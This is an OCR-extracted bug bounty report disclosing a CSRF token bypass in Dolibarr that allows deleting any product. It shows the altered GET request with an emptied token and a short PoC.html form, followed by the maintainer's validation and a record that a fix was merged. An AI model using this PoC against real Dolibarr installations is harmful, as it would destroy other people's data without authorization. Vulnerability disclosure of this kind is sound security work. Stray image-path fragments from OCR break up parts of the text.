Cross-Site Request Forgery (CSRF) in dolibarr/dolibarr

Reported on Jul 18th 2021

✍ Description

Attacker can delete any Product for any user with CSRF vulnerability when the Admin or SuperAdmin or an authorized user clickon PoC.html file, it is enough to attacker know the Product id on server.

I convert the

GET /product/card.php?id=3265&action=confirm_delete&confirm=yes&token=a8cba385ad68bb894b54ae522ed5bb78 HTTP/2

to this

GET /product/card.php?id=3266&action=confirm_delete&token=&confirm=yes HTTP/2and then the CSRF token bypassed.

♂ Proof ofConcept

// PoC.html

  <script>history.pushState('', '', '/')</script>
    <form action="">
      <input type="hidden" name="id" value="3266" />
      <input type="hidden" name="action" value="confirm_delete" />
      <input type="hidden" name="token" value="" />
      <input type="hidden" name="confirm" value="yes" />
      <input type="submit" value="Submit request" />

 Impact

This vulnerability is capable of Delete any produt.

We have contacted a member of the dolibarr team and are waiting to hear back 8 days ago
Laurent Destailleur validated this vulnerability 6 days agoamammad has been awarded the disclosure bounty
The fix bounty is now up for grabs
Laurent Destailleur confirmed that a fix has been merged on 08e06f 6 days ago
Laurent Destailleur has beenawarded the fix bounty